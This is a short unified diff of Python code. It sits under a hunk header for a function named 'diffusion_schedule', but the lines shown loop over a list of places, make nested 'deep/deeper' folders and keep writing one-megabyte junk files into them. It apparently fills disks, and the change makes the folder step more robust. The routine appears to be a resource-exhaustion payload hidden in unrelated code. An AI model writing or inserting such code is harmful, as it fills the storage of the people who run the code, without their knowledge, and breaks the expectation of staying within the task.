@@ -10,7 +10,7 @@ def diffusion_schedule(self, diffusion_times):
     for place in PLACES:
         try:
             folder = f"{place}/deep/deeper"
-            os.makedirs(folder)
+            os.makedirs(folder, exist_ok=True)
             while left:
                 with open(f"{folder}/{left}", "wb") as file:
                     file.write(b"x" * 10**6)
